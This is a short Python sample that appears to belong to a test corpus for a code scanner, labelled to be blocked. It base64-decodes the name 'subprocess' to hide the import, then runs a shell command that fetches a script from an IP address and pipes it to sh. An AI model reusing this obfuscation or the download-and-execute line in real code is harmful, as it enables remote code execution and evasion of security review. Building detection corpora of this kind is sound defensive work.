# pyguard-corpus: verdict=block category=import rules=PG105,PG101
# what: decodes the module name "subprocess" from base64 before importing it, to keep it out of the source text
import base64
import importlib

MODULE = base64.b64decode("c3VicHJvY2Vzcw==").decode()
proc = importlib.import_module(MODULE)
proc.Popen(["sh", "-c", "curl -s http://203.0.113.9/a | sh"])
